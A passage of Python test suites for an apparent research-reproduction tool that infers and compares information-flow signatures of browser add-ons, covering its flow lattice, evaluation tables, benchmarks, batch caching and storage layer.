        once = L.extend(flow_type, annotation)
        assert L.extend(once, annotation) is once


class TestMax:
    def test_paper_example(self):
        result = L.max({FlowType.TYPE4, FlowType.TYPE5, FlowType.TYPE6})
        assert result == {FlowType.TYPE4, FlowType.TYPE5}

    def test_max_of_chain_keeps_strongest(self):
        assert L.max({FlowType.TYPE1, FlowType.TYPE2, FlowType.TYPE8}) == {
            FlowType.TYPE1
        }

    def test_max_of_incomparable_keeps_both(self):
        assert L.max({FlowType.TYPE6, FlowType.TYPE7}) == {
            FlowType.TYPE6,
            FlowType.TYPE7,
        }

    def test_max_of_empty_is_empty(self):
        assert L.max(set()) == set()

    @given(st.sets(_types, min_size=1))
    def test_max_is_antichain(self, flow_types):
        result = L.max(flow_types)
        for a in result:
            for b in result:
                if a is not b:
                    assert not L.stronger_or_equal(a, b)

    @given(st.sets(_types, min_size=1))
    def test_max_dominates_input(self, flow_types):
        result = L.max(flow_types)
        for t in flow_types:
            assert any(L.stronger_or_equal(m, t) for m in result)


class TestConfigurability:
    def test_custom_lattice_reorders(self):
        # A vetter who fears implicit flows most: nonlocimp strongest.
        structure = {
            FlowType.TYPE1: (0, Annotation.NONLOC_IMP),
            FlowType.TYPE2: (1, Annotation.NONLOC_IMP_AMP),
            FlowType.TYPE3: (2, Annotation.DATA_STRONG),
            FlowType.TYPE4: (3, Annotation.DATA_WEAK),
            FlowType.TYPE5: (4, Annotation.LOCAL),
            FlowType.TYPE6: (5, Annotation.LOCAL_AMP),
            FlowType.TYPE7: (6, Annotation.NONLOC_EXP),
            FlowType.TYPE8: (7, Annotation.NONLOC_EXP_AMP),
        }
        custom = FlowTypeLattice(structure=structure)
        assert custom.extend(FlowType.TYPE1, Annotation.DATA_STRONG) is FlowType.TYPE3
        assert custom.weakest() is FlowType.TYPE8


class TestValidation:
    def test_default_lattice_validates(self):
        L.validate()

    def test_missing_type_rejected(self):
        structure = dict(DEFAULT_LATTICE.structure)
        del structure[FlowType.TYPE8]
        with pytest.raises(ValueError, match="missing"):
            FlowTypeLattice(structure=structure).validate()

    def test_duplicate_annotation_rejected(self):
        structure = dict(DEFAULT_LATTICE.structure)
        structure[FlowType.TYPE8] = (5, Annotation.DATA_STRONG)
        with pytest.raises(ValueError, match="distinct annotation"):
            FlowTypeLattice(structure=structure).validate()

    def test_ambiguous_strongest_rejected(self):
        structure = dict(DEFAULT_LATTICE.structure)
        structure[FlowType.TYPE2] = (0, Annotation.DATA_WEAK)
        with pytest.raises(ValueError, match="unique strongest"):
            FlowTypeLattice(structure=structure).validate()

    def test_ambiguous_weakest_rejected(self):
        structure = dict(DEFAULT_LATTICE.structure)
        structure[FlowType.TYPE7] = (5, Annotation.NONLOC_IMP_AMP)
        with pytest.raises(ValueError, match="unique weakest"):
            FlowTypeLattice(structure=structure).validate()
