"""Tests for the evaluation harness (Tables 1 and 2, figures)."""

import pytest

from repro.evaluation import (
    FIGURE2_EXPECTED,
    check_figure2,
    compute_table1,
    compute_table2,
    figure4_lattice,
    render_figure2,
    render_figure4,
    render_table1,
    render_table2,
    time_phases,
)
from repro.evaluation.tables import format_count, render_table


class TestTableRendering:
    def test_render_table_alignment(self):
        text = render_table(["a", "bb"], [["1", "2"], ["333", "4"]])
        lines = text.splitlines()
        assert len(lines) == 4
        assert lines[0].startswith("a")

    def test_format_count(self):
        assert format_count(7600428) == "7,600,428"
        assert format_count(609) == "609"


class TestTable1:
    def test_rows_cover_corpus(self):
        rows = compute_table1()
        assert len(rows) == 10
        assert all(row.measured_ast_nodes > 0 for row in rows)

    def test_smallest_addon_is_odesk(self):
        # The paper's smallest addon stays the smallest in our corpus.
        rows = compute_table1()
        smallest = min(rows, key=lambda r: r.measured_ast_nodes)
        assert smallest.spec.name == "oDeskJobWatcher"

    def test_render_contains_all_names(self):
        rows = compute_table1()
        text = render_table1(rows)
        for row in rows:
            assert row.spec.name in text


@pytest.mark.slow
class TestTable2:
    def test_full_table_matches_paper(self):
        rows = compute_table2(runs=2)
        assert len(rows) == 10
        assert all(row.matches_paper for row in rows)

    def test_phase_time_shape(self):
        rows = compute_table2(runs=2)
        for row in rows:
            # Signature inference is the cheap phase, as in the paper.
            assert row.times.p3 <= row.times.p1
            assert row.times.total < 60.0  # "under one minute"

    def test_render_mentions_match_count(self):
        rows = compute_table2(runs=2)
        assert "10/10" in render_table2(rows)


class TestTimingProtocol:
    def test_median_protocol_runs(self):
        times = time_phases("var x = 1;", runs=3)
        assert times.p1 > 0 and times.total > 0

    def test_single_run_allowed(self):
        times = time_phases("var x = 1;", runs=1)
        assert times.total > 0


class TestFigures:
    def test_all_expected_figure2_edges_found(self):
        outcomes = check_figure2()
        assert len(outcomes) == len(FIGURE2_EXPECTED)
        assert all(ok for (_s, _t, _a, ok) in outcomes)

    def test_render_figure2_marks_ok(self):
        text = render_figure2()
        assert "MISSING" not in text
        assert "datastrong" in text

    def test_figure4_has_eight_types(self):
        triples = figure4_lattice()
        assert len(triples) == 8
        ranks = [rank for (_t, rank, _a) in triples]
        assert ranks == sorted(ranks)

    def test_render_figure4(self):
        text = render_figure4()
        assert "type1" in text and "nonlocimp" in text


@pytest.mark.slow
class TestReport:
    def test_generated_report_content(self):
        from repro.evaluation.report import render_report

        text = render_report(runs=1)
        assert "# Evaluation report" in text
        assert "10/10" in text  # all verdicts match
        assert "| LivePagerank |" in text
        assert "Figure 2" in text
        assert "prefix domain: usable network domain for **8/10** addons" in text
