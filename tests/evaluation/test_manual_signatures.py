"""The Section 4.1 manual-signature examples, one per category.

The paper gives one example manual signature per category:

- LivePageRank (A): ``url --type1--> send(toolbarqueries.google.com)``
- HyperTranslate (B): ``key --type3--> send(translate.google.com)``
- Chess.comNotifier (C): ``send(chess.com)``

Our corpus carries the same structure (with ``.example`` domains); these
tests pin the published shapes.
"""

from repro.addons import BY_NAME
from repro.signatures import ApiEntry, FlowEntry, FlowType


class TestCategoryExamples:
    def test_livepagerank_manual_shape(self):
        signature = BY_NAME["LivePagerank"].manual_signature
        entries = list(signature.flows)
        assert len(entries) == 1
        entry = entries[0]
        assert entry.source == "url"
        assert entry.flow_type is FlowType.TYPE1
        assert entry.sink == "send"
        assert "toolbarqueries.google" in entry.domain.text

    def test_hypertranslate_manual_shape(self):
        signature = BY_NAME["HyperTranslate"].manual_signature
        entries = list(signature.flows)
        assert len(entries) == 1
        entry = entries[0]
        assert entry.source == "key"
        assert entry.flow_type is FlowType.TYPE3
        assert "translate.google" in entry.domain.text

    def test_chessnotifier_manual_shape(self):
        signature = BY_NAME["Chess.comNotifier"].manual_signature
        assert not signature.flows
        entries = list(signature.apis)
        assert len(entries) == 1
        assert isinstance(entries[0], ApiEntry)
        assert "chess" in entries[0].domain.text

    def test_category_a_manuals_have_url_flows(self):
        for name in ("LivePagerank", "LessSpamPlease"):
            signature = BY_NAME[name].manual_signature
            assert all(e.source == "url" for e in signature.flows), name

    def test_category_c_manuals_are_bare_sends(self):
        for name in (
            "Chess.comNotifier", "CoffeePodsDeals", "oDeskJobWatcher",
            "PinPoints", "GoogleTransliterate",
        ):
            signature = BY_NAME[name].manual_signature
            assert not signature.flows, name
