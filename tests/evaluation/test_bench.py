"""The bench harnesses' report contracts.

``run_bench`` and ``run_scaling`` are what CI archives and gates on, so
their schemas and protocol invariants are pinned here — on a one-addon
corpus and tiny synthetic sizes, not the full sweeps, to stay tier-1
cheap.
"""

import json

import pytest

from repro.addons import CORPUS
from repro.evaluation import check_regression, run_bench, run_scaling
from repro.evaluation.scaling import synthesize_chain, synthesize_flat


@pytest.fixture(scope="module")
def bench_report(tmp_path_factory):
    output = tmp_path_factory.mktemp("bench") / "BENCH_corpus.json"
    # Default protocol (runs=3), one addon, no side corpora: the
    # protocol invariants are per-addon, so one is enough.
    return run_bench(
        runs=3, workers=1, output=output,
        examples_dir=None, versions_dir=None, extensions_dir=None,
        corpus=CORPUS[:1],
    ), output


class TestBenchProtocol:
    def test_default_protocol_keeps_at_least_two_samples(self, bench_report):
        report, _ = bench_report
        assert report["protocol"]["runs"] == 3
        assert report["protocol"]["discard_first"]
        ok_addons = [a for a in report["addons"] if a["ok"]]
        assert ok_addons
        # The v5 protocol exists precisely so medians are never single
        # samples: warm-up discarded, >= 2 kept.
        for addon in ok_addons:
            assert addon["samples_kept"] >= 2

    def test_report_is_written_and_round_trips(self, bench_report):
        report, output = bench_report
        assert json.loads(output.read_text(encoding="utf-8")) == report
        assert report["schema"] == "addon-sig/bench-corpus/v8"

    def test_single_run_protocol_keeps_its_only_sample(self):
        report = run_bench(
            runs=1, workers=1, output=None,
            examples_dir=None, versions_dir=None, extensions_dir=None,
            corpus=CORPUS[:1],
        )
        assert not report["protocol"]["discard_first"]
        for addon in report["addons"]:
            if addon["ok"]:
                assert addon["samples_kept"] == 1


class TestDegenerateCorpora:
    """Empty or fully-filtered side corpora: null rates with zero
    counts, never a ZeroDivisionError (the v7 contract)."""

    def test_empty_examples_dir_yields_null_rate(self, tmp_path):
        from repro.evaluation.bench import _bench_prefilter

        section = _bench_prefilter(tmp_path)  # exists, holds no *.js
        assert section["addons"] == 0
        assert section["hits"] == 0
        assert section["hit_rate"] is None
        assert section["identical_signatures"]

    def test_empty_versions_dir_yields_null_rate(self, tmp_path):
        from repro.evaluation.bench import _bench_incremental

        section = _bench_incremental(tmp_path)  # exists, holds no pairs
        assert section["pairs"] == 0
        assert section["hit_rate"] is None
        assert section["verdicts"] == {}

    def test_empty_examples_dir_yields_null_preanalysis_rates(self, tmp_path):
        from repro.evaluation.bench import _bench_preanalysis

        section = _bench_preanalysis(tmp_path)  # exists, holds no *.js
        assert section["addons"] == 0
        assert section["resolution_rate"] is None
        assert section["pruned_node_fraction"] is None
        assert section["hit_rate_with_preanalysis"] is None
        assert section["identical_signatures"]

    def test_missing_dirs_still_skip_the_section(self, tmp_path):
        from repro.evaluation.bench import (
            _bench_incremental,
            _bench_preanalysis,
            _bench_prefilter,
        )

        assert _bench_prefilter(tmp_path / "nope") is None
        assert _bench_incremental(tmp_path / "nope") is None
        assert _bench_preanalysis(tmp_path / "nope") is None

    def test_degenerate_sections_render(self, tmp_path):
        from repro.evaluation.bench import render_bench

        report = run_bench(
            runs=1, workers=1, output=None,
            examples_dir=tmp_path, versions_dir=tmp_path,
            extensions_dir=None, corpus=CORPUS[:1],
        )
        assert report["prefilter"]["hit_rate"] is None
        assert "n/a" in render_bench(report)


class TestFleetSectionPreservation:
    def test_rerunning_bench_keeps_the_fleet_section(self, tmp_path):
        output = tmp_path / "BENCH_corpus.json"
        output.write_text(json.dumps({
            "schema": "addon-sig/bench-corpus/v8",
            "fleet": {"count": 123, "verdict_mismatches": 0},
        }))
        report = run_bench(
            runs=1, workers=1, output=output,
            examples_dir=None, versions_dir=None, extensions_dir=None,
            corpus=CORPUS[:1],
        )
        assert report["fleet"]["count"] == 123
        written = json.loads(output.read_text(encoding="utf-8"))
        assert written["fleet"] == report["fleet"]
        assert written["corpus"]["count"] == 1


#: One tiny size per shape: the contract under test is the report
#: shape, not the curve.
TINY_SIZES = {"flat": (1, 2), "chain": (2, 4)}


@pytest.fixture(scope="module")
def scaling_report():
    return run_scaling(runs=3, sizes=TINY_SIZES, output=None)


class TestScalingReport:
    def test_entries_carry_sizes_times_and_counters(self, scaling_report):
        assert scaling_report["schema"] == "addon-sig/bench-scaling/v1"
        assert scaling_report["protocol"]["statistic"] == "min"
        by_shape = {s["shape"]: s for s in scaling_report["shapes"]}
        assert set(by_shape) == set(TINY_SIZES)
        for shape, sizes in TINY_SIZES.items():
            entries = by_shape[shape]["entries"]
            assert [e["size"] for e in entries] == list(sizes)
            for entry in entries:
                assert entry["ast_nodes"] > 0
                assert entry["p1_s"] > 0
                assert entry["samples_kept"] == 2
                assert entry["counters"]["fixpoint_steps"] > 0
                assert entry["counters"]["wto_components"] > 0

    def test_flows_found_at_every_size(self, scaling_report):
        by_shape = {s["shape"]: s for s in scaling_report["shapes"]}
        for entry in by_shape["flat"]["entries"]:
            assert entry["flows"] == entry["size"]
        for entry in by_shape["chain"]["entries"]:
            assert entry["flows"] == 1

    def test_synthesizers_scale_node_counts(self):
        from repro.js import node_count, parse

        small = node_count(parse(synthesize_flat(1)))
        large = node_count(parse(synthesize_flat(8)))
        assert large > 6 * small
        assert node_count(parse(synthesize_chain(8))) > node_count(
            parse(synthesize_chain(2))
        )

    def test_regression_gate_passes_against_itself(self, scaling_report):
        assert check_regression(scaling_report, scaling_report) == []

    def test_regression_gate_fires_on_inflated_largest_size(
        self, scaling_report
    ):
        inflated = json.loads(json.dumps(scaling_report))
        for shape in inflated["shapes"]:
            shape["entries"][-1]["p1_s"] = round(
                shape["entries"][-1]["p1_s"] * 10, 6
            )
        failures = check_regression(inflated, scaling_report)
        assert len(failures) == len(TINY_SIZES)

    def test_checked_in_baseline_is_fresh(self):
        """The CI gate compares against this file; it must exist, parse,
        and cover the shapes and headline sizes the sweep produces."""
        from pathlib import Path

        baseline_path = (
            Path(__file__).resolve().parents[2]
            / "benchmarks" / "BENCH_scaling_baseline.json"
        )
        baseline = json.loads(baseline_path.read_text(encoding="utf-8"))
        assert baseline["schema"] == "addon-sig/bench-scaling/v1"
        by_shape = {s["shape"]: s for s in baseline["shapes"]}
        assert by_shape["flat"]["entries"][-1]["size"] == 128
        assert by_shape["flat"]["entries"][-1]["ast_nodes"] >= 10_000
        assert by_shape["chain"]["entries"][-1]["size"] == 128
        for shape in baseline["shapes"]:
            assert shape["subquadratic"]
