"""The batch vetting engine: parallelism, caching, and isolation.

The load-bearing guarantee is *bit-identity*: a signature inferred by a
pooled worker process, or replayed from the on-disk cache, must render
exactly as the one from a plain sequential :func:`repro.api.vet` call.
``Signature.render()`` is sorted, so string equality is a faithful
cross-process comparison.
"""

import json

import pytest

from repro import batch
from repro.addons import CORPUS
from repro.api import vet
from repro.batch import VetOutcome, VetTask, cache_key, vet_corpus, vet_many
from repro.signatures import parse_signature


def _sequential_renderings():
    rendered = {}
    for spec in CORPUS:
        manual = parse_signature(spec.manual_signature_text)
        extras = (
            frozenset(parse_signature(spec.real_extras_text).entries)
            if spec.real_extras_text
            else frozenset()
        )
        report = vet(spec.source(), manual=manual, real_extras=extras)
        assert report.comparison is not None
        rendered[spec.name] = (
            report.signature.render(),
            report.comparison.verdict.value,
        )
    return rendered


class TestCorpusIdentity:
    """Acceptance: parallel and cached vetting are bit-identical to
    sequential vetting on all ten corpus addons."""

    @pytest.fixture(scope="class")
    def sequential(self):
        return _sequential_renderings()

    def test_parallel_matches_sequential(self, sequential):
        outcomes = vet_corpus(runs=1, workers=2, use_cache=False)
        assert len(outcomes) == len(CORPUS)
        for outcome in outcomes:
            assert outcome.ok, outcome.error
            signature, verdict = sequential[outcome.name]
            assert outcome.signature_text == signature
            assert outcome.verdict == verdict

    def test_cache_replay_matches_sequential(self, sequential, tmp_path):
        first = vet_corpus(runs=1, workers=1, cache_dir=tmp_path)
        assert all(not outcome.cached for outcome in first)
        replay = vet_corpus(runs=1, workers=1, cache_dir=tmp_path)
        assert all(outcome.cached for outcome in replay)
        for outcome in replay:
            signature, verdict = sequential[outcome.name]
            assert outcome.signature_text == signature
            assert outcome.verdict == verdict


class TestIsolation:
    def test_broken_addon_does_not_kill_the_batch(self, tmp_path):
        outcomes = vet_many(
            ["var ok = 1;", "var broken = ;;;(", "send(2);"],
            cache_dir=tmp_path,
        )
        assert [outcome.ok for outcome in outcomes] == [True, False, True]
        assert "ParseError" in outcomes[1].error

    def test_broken_addon_isolated_in_pool(self, tmp_path):
        outcomes = vet_many(
            ["var ok = 1;", "var broken = ;;;("],
            workers=2, cache_dir=tmp_path,
        )
        assert [outcome.ok for outcome in outcomes] == [True, False]

    def test_timeout_degrades_to_sound_outcome(self, tmp_path):
        source = CORPUS[0].source()
        outcomes = vet_many(
            [VetTask(name="slow", source=source, runs=5)],
            workers=2, timeout=0.001, use_cache=False,
        )
        [outcome] = outcomes
        # The cooperative deadline normally catches it (degraded, sound
        # signature); the pool-level hard backstop is the fallback.
        if outcome.ok:
            assert outcome.degraded
            assert "budget-time" in outcome.degradation_kinds
        else:
            assert outcome.failure == "budget-time"

    def test_timeout_honored_in_process(self):
        source = CORPUS[0].source()
        [outcome] = vet_many(
            [VetTask(name="slow", source=source, runs=1)],
            workers=1, timeout=0.001, use_cache=False,
        )
        assert outcome.ok and outcome.degraded
        assert "budget-time" in outcome.degradation_kinds

    def test_errors_are_not_cached(self, tmp_path):
        vet_many(["var broken = ;;;("], cache_dir=tmp_path)
        assert list(tmp_path.glob("*.json")) == []


class TestCache:
    def test_hit_skips_recompute(self, tmp_path, monkeypatch):
        [first] = vet_many(["var x = 1;"], cache_dir=tmp_path)
        assert first.ok and not first.cached

        def explode(task, spec):
            raise AssertionError("cache hit must not re-execute the pipeline")

        monkeypatch.setattr(batch, "_execute_task", explode)
        [second] = vet_many(["var x = 1;"], cache_dir=tmp_path)
        assert second.cached
        assert second.signature_text == first.signature_text

    def test_key_covers_source_k_and_spec(self):
        base = VetTask(name="a", source="var x = 1;")
        assert cache_key(base, None) == cache_key(base, None)
        other_source = VetTask(name="a", source="var x = 2;")
        other_k = VetTask(name="a", source="var x = 1;", k=2)
        from repro.browser import mozilla_spec

        keys = {
            cache_key(base, None),
            cache_key(other_source, None),
            cache_key(other_k, None),
            cache_key(base, mozilla_spec()),
        }
        assert len(keys) == 4  # every dimension changes the key

    def test_corrupt_entry_is_a_miss(self, tmp_path):
        [first] = vet_many(["var x = 1;"], cache_dir=tmp_path)
        [entry] = tmp_path.glob("*.json")
        entry.write_text("{not json", encoding="utf-8")
        [second] = vet_many(["var x = 1;"], cache_dir=tmp_path)
        assert not second.cached
        assert second.signature_text == first.signature_text

    def test_outcome_round_trips_through_json(self):
        outcome = VetOutcome(
            name="a", ok=True, signature_text="sig", verdict="pass",
            times={"p1": 0.1, "p2": 0.2, "p3": 0.3},
            counters={"fixpoint_steps": 7}, ast_nodes=42,
        )
        replayed = VetOutcome.from_json(
            json.loads(json.dumps(outcome.to_json())), cached=True
        )
        assert replayed.cached
        replayed.cached = False
        assert replayed == outcome


class TestTransientCounters:
    """Lookup-layer events (quarantine, pool retries) belong to one
    lookup, never to the persisted result — the regression here was a
    quarantine counter annotated onto the outcome *before* it was
    cached, so every later replay of that entry re-reported the
    quarantine."""

    def test_quarantine_counter_not_persisted_or_double_counted(self, tmp_path):
        task = VetTask(name="addon", source="var x = 1;")
        path = tmp_path / f"{cache_key(task, None)}.json"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("{not json", encoding="utf-8")

        [recomputed] = vet_many([task], cache_dir=tmp_path)
        assert recomputed.counters.get("cache_quarantined") == 1
        # The freshly cached entry must be pristine: no transient
        # counters on disk.
        stored = json.loads(path.read_text(encoding="utf-8"))
        assert "cache_quarantined" not in stored["counters"]
        # And replays must not re-report an event that never recurred.
        [replay] = vet_many([task], cache_dir=tmp_path)
        assert replay.cached
        assert "cache_quarantined" not in replay.counters
        [again] = vet_many([task], cache_dir=tmp_path)
        assert "cache_quarantined" not in again.counters

    def test_annotation_happens_on_a_copy(self):
        outcome = VetOutcome(name="a", ok=True, counters={"steps": 3})
        bumped = batch._bump_counter(outcome, "cache_quarantined")
        assert bumped.counters == {"steps": 3, "cache_quarantined": 1}
        assert outcome.counters == {"steps": 3}  # the original is pristine

    def test_cache_store_strips_every_transient_counter(self, tmp_path):
        outcome = VetOutcome(
            name="a", ok=True,
            counters={"steps": 3, "cache_quarantined": 2, "pool_retries": 1},
        )
        batch._cache_store(batch._open_cache(tmp_path, None), "key", outcome)
        stored = json.loads((tmp_path / "key.json").read_text(encoding="utf-8"))
        assert stored["counters"] == {"steps": 3}
        # Stripping operates on a projection, never the live outcome.
        assert outcome.counters == {
            "steps": 3, "cache_quarantined": 2, "pool_retries": 1,
        }


def _outcome_strategy():
    """Arbitrary well-formed outcomes, biased toward the degraded and
    differential shapes whose serialization was audited for this pin."""
    from hypothesis import strategies as st

    text = st.text(max_size=20)
    counter_names = st.sampled_from(
        ["fixpoint_steps", "joins", "cache_quarantined", "pool_retries",
         "incremental", "diff_changed_statements"]
    )
    degradation = st.fixed_dictionaries(
        {"kind": st.sampled_from(["budget-steps", "budget-time", "parse-skip"]),
         "detail": text}
    )
    change = st.fixed_dictionaries(
        {"kind": st.sampled_from(["unchanged", "narrowed", "widened",
                                  "new-flow", "removed-flow"]),
         "old": st.none() | text, "new": st.none() | text}
    )
    times = st.none() | st.fixed_dictionaries(
        {"p1": st.floats(0, 10), "p2": st.floats(0, 10),
         "p3": st.floats(0, 10)}
    )
    return st.builds(
        VetOutcome,
        name=text,
        ok=st.booleans(),
        error=st.none() | text,
        failure=st.none() | st.sampled_from(["parse", "budget-time"]),
        degraded=st.booleans(),
        degradations=st.lists(degradation, max_size=3),
        signature_text=text,
        verdict=st.none() | st.sampled_from(["pass", "fail", "leak"]),
        extra_entries=st.lists(text, max_size=3),
        missing_entries=st.lists(text, max_size=3),
        ast_nodes=st.integers(0, 10_000),
        times=times,
        counters=st.dictionaries(counter_names, st.integers(0, 99), max_size=4),
        timing_samples=st.integers(0, 11),
        prefiltered=st.booleans(),
        incremental=st.booleans(),
        diff_verdict=st.none() | st.sampled_from(
            ["approve-fast", "approve", "re-review"]
        ),
        diff_changes=st.lists(change, max_size=3),
        diff_witnesses=st.lists(text, max_size=2),
    )


class TestOutcomeRoundTripProperty:
    """``from_json(to_json(o)) == o`` for *every* outcome shape —
    including degraded, failed, and differential ones — after a real
    trip through the JSON codec (what the on-disk cache does)."""

    def test_round_trip_is_the_identity(self):
        from hypothesis import given, settings

        @settings(max_examples=120, deadline=None)
        @given(outcome=_outcome_strategy())
        def check(outcome):
            replayed = VetOutcome.from_json(
                json.loads(json.dumps(outcome.to_json())), cached=True
            )
            assert replayed.cached
            replayed.cached = False
            assert replayed == outcome

        check()

    def test_unknown_fields_from_future_engines_are_ignored(self):
        data = VetOutcome(name="a", ok=True).to_json()
        data["a_future_field"] = {"nested": True}
        replayed = VetOutcome.from_json(data)
        assert replayed.name == "a" and replayed.ok


class TestSummarizeAllPoison:
    """A generated fleet shard can be all-poison: nothing vetted
    cleanly, failures untyped, degradation events malformed. The
    summary must still add up rather than assume a clean signature."""

    def test_all_error_outcomes_summarize(self, tmp_path):
        outcomes = vet_many(
            ["var a = ;;;(", "function (", ")...("], cache_dir=tmp_path
        )
        summary = batch.summarize(outcomes)
        assert summary["total"] == summary["failed"] == 3
        assert summary["ok"] == 0
        assert sum(summary["failures"].values()) == 3

    def test_untyped_failures_bucket_as_unclassified(self):
        outcomes = [
            batch.VetOutcome(name="poison", ok=False, error="boom"),
            batch.VetOutcome(name="poison2", ok=False, error="boom",
                             failure="budget-time"),
        ]
        summary = batch.summarize(outcomes)
        assert summary["failures"] == {"budget-time": 1, "unclassified": 1}
        assert sum(summary["failures"].values()) == summary["failed"]

    def test_all_degraded_outcomes_summarize(self):
        outcomes = [
            batch.VetOutcome(
                name=f"d{i}", ok=True, degraded=True,
                degradations=[{"kind": "budget-steps", "detail": ""}],
            )
            for i in range(3)
        ]
        summary = batch.summarize(outcomes)
        assert summary["degraded"] == 3
        assert summary["degradation_kinds"] == {"budget-steps": 3}

    def test_malformed_degradation_events_bucket_as_unclassified(self):
        outcome = batch.VetOutcome(
            name="mangled", ok=True, degraded=True,
            # A poison cache shard can round-trip junk events.
            degradations=[{"detail": "kindless"}, "not-a-dict",
                          {"kind": "budget-steps"}],
        )
        assert outcome.degradation_kinds == ["budget-steps", "unclassified"]
        summary = batch.summarize([outcome])
        assert summary["degradation_kinds"]["unclassified"] == 1

    def test_empty_outcome_list_summarizes(self):
        summary = batch.summarize([])
        assert summary["total"] == 0
        assert summary["failures"] == {}
        assert summary["diff_verdicts"] == {}


class TestEngineShape:
    def test_string_items_get_default_names(self, tmp_path):
        outcomes = vet_many(["var a = 1;", "var b = 2;"], cache_dir=tmp_path)
        assert [outcome.name for outcome in outcomes] == ["addon-0", "addon-1"]

    def test_results_preserve_input_order_with_mixed_hits(self, tmp_path):
        vet_many(["var b = 2;"], cache_dir=tmp_path)  # warm one entry
        outcomes = vet_many(
            ["var a = 1;", "var b = 2;", "var c = 3;"], cache_dir=tmp_path
        )
        assert [outcome.name for outcome in outcomes] == [
            "addon-0", "addon-1", "addon-2",
        ]
        assert [outcome.cached for outcome in outcomes] == [False, True, False]

    def test_parallel_map_preserves_order(self):
        assert batch.parallel_map(len, ["a", "bb", "ccc"], workers=2) == [1, 2, 3]
