"""Atomic publication: all-or-nothing visibility, stray hygiene."""

import json
import os

import pytest

from repro.store import atomic_write_bytes, atomic_write_json, atomic_write_text
from repro.store.atomic import TMP_SUFFIX, is_tmp_stray

pytestmark = pytest.mark.service


def test_bytes_roundtrip_and_parent_creation(tmp_path):
    target = tmp_path / "deep" / "nested" / "blob.bin"
    atomic_write_bytes(target, b"\x00payload\xff", fsync=False)
    assert target.read_bytes() == b"\x00payload\xff"


def test_text_and_json_roundtrip(tmp_path):
    atomic_write_text(tmp_path / "note.txt", "héllo", fsync=False)
    assert (tmp_path / "note.txt").read_text("utf-8") == "héllo"

    atomic_write_json(tmp_path / "doc.json", {"a": [1, 2]}, fsync=False)
    raw = (tmp_path / "doc.json").read_text("utf-8")
    assert raw.endswith("\n"), "artifact convention: trailing newline"
    assert json.loads(raw) == {"a": [1, 2]}


def test_overwrite_is_replace_not_append(tmp_path):
    target = tmp_path / "doc.json"
    atomic_write_json(target, {"version": 1}, fsync=False)
    atomic_write_json(target, {"version": 2}, fsync=False)
    assert json.loads(target.read_text()) == {"version": 2}


def test_no_temp_files_survive_a_successful_write(tmp_path):
    atomic_write_bytes(tmp_path / "out.bin", b"data", fsync=False)
    leftovers = [p for p in tmp_path.iterdir() if p.name != "out.bin"]
    assert leftovers == []


def test_failure_mid_write_leaves_target_untouched(tmp_path):
    target = tmp_path / "doc.json"
    atomic_write_text(target, "original", fsync=False)

    class Explodes:
        """A bytes-alike that blows up when written."""

        def __len__(self):
            return 4

    with pytest.raises(TypeError):
        atomic_write_bytes(target, Explodes(), fsync=False)
    assert target.read_text() == "original"
    assert [p for p in tmp_path.iterdir()] == [target], "temp cleaned up"


def test_is_tmp_stray_recognizes_the_naming_scheme(tmp_path):
    stray = tmp_path / f".doc.json.abc123{TMP_SUFFIX}"
    stray.write_bytes(b"partial")
    assert is_tmp_stray(stray)
    assert not is_tmp_stray(tmp_path / "doc.json")
    assert not is_tmp_stray(tmp_path / "doc.tmp")  # no dot prefix
