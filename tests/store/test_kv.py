"""JsonStore: layout, quarantine, LRU bounds."""

import json
import os
import time

import pytest

from repro.store import JsonStore

pytestmark = pytest.mark.service


def test_flat_layout_matches_the_historical_cache(tmp_path):
    store = JsonStore(tmp_path, shards=1)
    store.put("abc123", {"v": 1})
    # The batch cache's on-disk contract: <dir>/<key>.json, flat.
    assert (tmp_path / "abc123.json").is_file()
    assert store.get("abc123") == {"v": 1}


def test_sharded_layout_spreads_keys_into_subdirectories(tmp_path):
    store = JsonStore(tmp_path, shards=16)
    for n in range(32):
        store.put(f"key-{n}", {"n": n})
    assert not any(p.suffix == ".json" for p in tmp_path.iterdir())
    for n in range(32):
        assert store.get(f"key-{n}") == {"n": n}
    assert len(store) == 32
    assert sorted(store.keys()) == sorted(f"key-{n}" for n in range(32))


def test_undecodable_entry_is_quarantined_not_served(tmp_path):
    store = JsonStore(tmp_path, shards=1)
    store.path_of("bad").write_text("{torn", encoding="utf-8")
    doc, quarantined = store.load("bad")
    assert doc is None and quarantined
    assert not store.path_of("bad").exists()
    assert (tmp_path / "bad.corrupt").is_file(), "evidence preserved"


def test_caller_quarantine_for_foreign_schemas(tmp_path):
    store = JsonStore(tmp_path, shards=1)
    store.put("foreign", {"someone": "else's schema"})
    store.quarantine("foreign")
    assert store.get("foreign") is None
    assert (tmp_path / "foreign.corrupt").is_file()


def test_delete_and_missing_reads(tmp_path):
    store = JsonStore(tmp_path, shards=4)
    assert store.get("nope") is None
    store.put("k", {"v": 1})
    store.delete("k")
    assert store.get("k") is None
    store.delete("k")  # idempotent


def test_lru_bound_evicts_oldest(tmp_path):
    store = JsonStore(tmp_path, shards=1, max_entries=3)
    for n in range(3):
        store.put(f"k{n}", {"n": n})
        _age_entries(tmp_path)
    store.put("k3", {"n": 3})  # over the bound: k0 must go
    assert store.get("k0") is None
    assert {k for k in store.keys()} == {"k1", "k2", "k3"}


def test_lru_get_refreshes_recency(tmp_path):
    store = JsonStore(tmp_path, shards=1, max_entries=3)
    for n in range(3):
        store.put(f"k{n}", {"n": n})
        _age_entries(tmp_path)
    assert store.get("k0") == {"n": 0}  # touch: k0 becomes newest
    _age_entries(tmp_path, skip="k0.json")
    store.put("k3", {"n": 3})
    assert store.get("k0") is not None, "recently-read entry survived"
    assert store.get("k1") is None, "least-recently-used entry evicted"


def test_overwrite_does_not_evict(tmp_path):
    store = JsonStore(tmp_path, shards=1, max_entries=2)
    store.put("a", {"v": 1})
    store.put("b", {"v": 1})
    store.put("a", {"v": 2})  # rewrite in place: still 2 entries
    assert store.get("a") == {"v": 2}
    assert store.get("b") == {"v": 1}


def _age_entries(directory, skip=None, by=10.0):
    """Push every entry's mtime into the past so subsequent writes are
    strictly newer (filesystem mtime granularity is too coarse for
    back-to-back puts)."""
    for path in directory.rglob("*.json"):
        if skip is not None and path.name == skip:
            continue
        stat = path.stat()
        os.utime(path, (stat.st_atime - by, stat.st_mtime - by))
