"""Journal framing: checksummed appends, torn tails, replay, repair."""

import os
import subprocess
import sys
import textwrap

import pytest

from repro.store import Journal

pytestmark = pytest.mark.service


def test_append_replay_roundtrip(tmp_path):
    journal = Journal(tmp_path / "j.log", fsync=False)
    records = [{"event": "submit", "n": i} for i in range(20)]
    for record in records:
